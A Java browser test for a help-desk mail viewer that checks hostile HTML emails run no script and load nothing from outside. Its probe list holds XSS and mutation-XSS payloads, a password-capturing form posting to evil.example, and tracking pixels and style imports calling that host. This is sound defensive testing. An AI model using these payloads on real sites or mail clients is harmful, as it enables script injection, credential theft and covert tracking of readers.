package io.deskgate.app;

import static io.deskgate.core.fixture.EmailText.anEmail;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Mail that wants to run scripts or to tell somebody that it was read, shown in a real browser. */
class BrowserHostileMailTest {
    private static final List<String> PROBES = List.of(
            "<img src=x onerror=hmMark()>",
            "<svg onload=hmMark()></svg><svg><script>hmMark()</script></svg>",
            "<a href=\"javascript:hmMark()\">x</a><a href=\"java&#10;script:hmMark()\">x</a>",
            "<iframe srcdoc=\"<script>parent.hmMark()</script>\"></iframe>",
            "<math><mtext><table><mglyph><style><img src=x onerror=hmMark()></style></mglyph></table></mtext></math>",
            "<form action=\"https://evil.example/\"><input name=password><button>Log in</button></form>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
            "<link rel=stylesheet href=\"https://evil.example/x.css\"><style>@import 'https://evil.example/y.css'</style>",
            "<img src=\"https://evil.example/pixel.gif\"><p style=\"background:url(https://evil.example/z)\">y</p>",
            "</body></html><script>hmMark()</script>",
            "</iframe></article><script>hmMark()</script>");

    private static final String NO_FRAME = "none";

    @TempDir
    static Path folder;

    private static Chromium browser;
    private static ServedDesk desk;

    @BeforeAll
    static void serve() {
        browser = Chromium.shared();
        desk = new ServedDesk(folder);
        browser.inEveryDocument("window.hmMark = () => console.error('hmMark ran')");
        browser.loggedInAt(desk);
    }

    @AfterAll
    static void close() {
        if (desk != null) {
            desk.close();
        }
    }

    @Test
    void ourProbesRunNothingAndLoadNothing() {
        for (String probe : PROBES) {
            desk.receive(anEmail()
                    .withId("probe" + PROBES.indexOf(probe) + "@evil.example")
                    .about(probe)
                    .from("\"" + probe.replace("\"", "'") + "\" <eve@evil.example>")
                    .with("Content-Type", "text/html; charset=utf-8")
                    .saying("<p>hello</p>" + probe)
                    .toString());
        }
        browser.go("/tickets");
        assertHarmless("the list");
        for (int i = 1; i <= PROBES.size(); i++) {
            String frame = showWhole("/tickets/SUP-" + i);
            assertThat(assertHarmless(PROBES.get(i - 1))).as(PROBES.get(i - 1)).contains(frame);
        }
    }

    @Test
    void theHostileSuitesHtmlRunsNothingAndLoadsNothing() throws IOException, InterruptedException {
        List<Path> mails = HostileSuite.messages(folder.resolve("hostile"), "xss-");
        assumeTrue(!mails.isEmpty(), "left out: needs python3 and hostile/gen.py in DESKGATE_SHARED or ../shared");
        for (Path mail : mails) {
            String outcome = OutcomeText.of(desk.receive(Files.readAllBytes(mail)));
            Optional<String> key = Stream.of(outcome.split("[ ,:]"))
                    .filter(word -> word.startsWith("SUP-"))
                    .findFirst();
            String frame = key.isPresent() ? showWhole("/tickets/" + key.get()) : NO_FRAME;
            List<String> loaded = assertHarmless(mail.getFileName().toString());
            assertThat(frame.equals(NO_FRAME) || loaded.contains(frame))
                    .as(mail + " in " + frame)
                    .isTrue();
        }
    }

    /** Otherwise nothing here could fail. */
    @Test
    void whatRunsAndLoadsElsewhereIsSeen() {
        browser.open("data:text/html,<title>x</title><img src='https://evil.example/pixel.gif' onerror='hmMark()'>");
        browser.waitUntil("the probe runs", () -> browser.console().stream().anyMatch(BrowserHostileMailTest::isMark));

        assertThat(browser.requests()).anyMatch(request -> !staysHere(request));
    }

    /** Unfolds everything, so that the frame with the formatted message is loaded too, and answers the frame's address. */
    private static String showWhole(String path) {
        browser.go(path);
        browser.script("document.querySelectorAll('details').forEach(d => d.open = true);"
                + "document.querySelectorAll('iframe').forEach(f => { f.loading = 'eager'; f.scrollIntoView(); })");
        return (String) browser.scriptThatAnswersLater("const done = arguments[arguments.length - 1];"
                + "const frame = document.querySelector('iframe');"
                + "if (!frame) done('" + NO_FRAME + "'); else { frame.addEventListener('load', () => done(frame.src));"
                + " frame.src = frame.src; setTimeout(() => done('nothing: the frame took more than 20 s'), 20000); }");
    }

    /** Answers the addresses of what was loaded. */
    private static List<String> assertHarmless(String what) {
        assertThat(browser.console()).as(what).noneMatch(BrowserHostileMailTest::isMark);
        assertThat(browser.title()).as(what).endsWith("Deskgate");
        List<String> requests = browser.requests();
        assertThat(requests).as(what).allMatch(BrowserHostileMailTest::staysHere);
        return requests.stream().map(BrowserHostileMailTest::address).toList();
    }

    private static boolean isMark(String line) {
        return line.contains("hmMark ran");
    }

    private static boolean staysHere(String request) {
        String address = address(request);
        return address.startsWith(desk.address()) || address.startsWith("data:") || address.startsWith("about:");
    }

    private static String address(String request) {
        int url = request.indexOf("\"url\":\"", request.indexOf("\"request\":")) + "\"url\":\"".length();
        return request.substring(url, request.indexOf('"', url));
    }
}
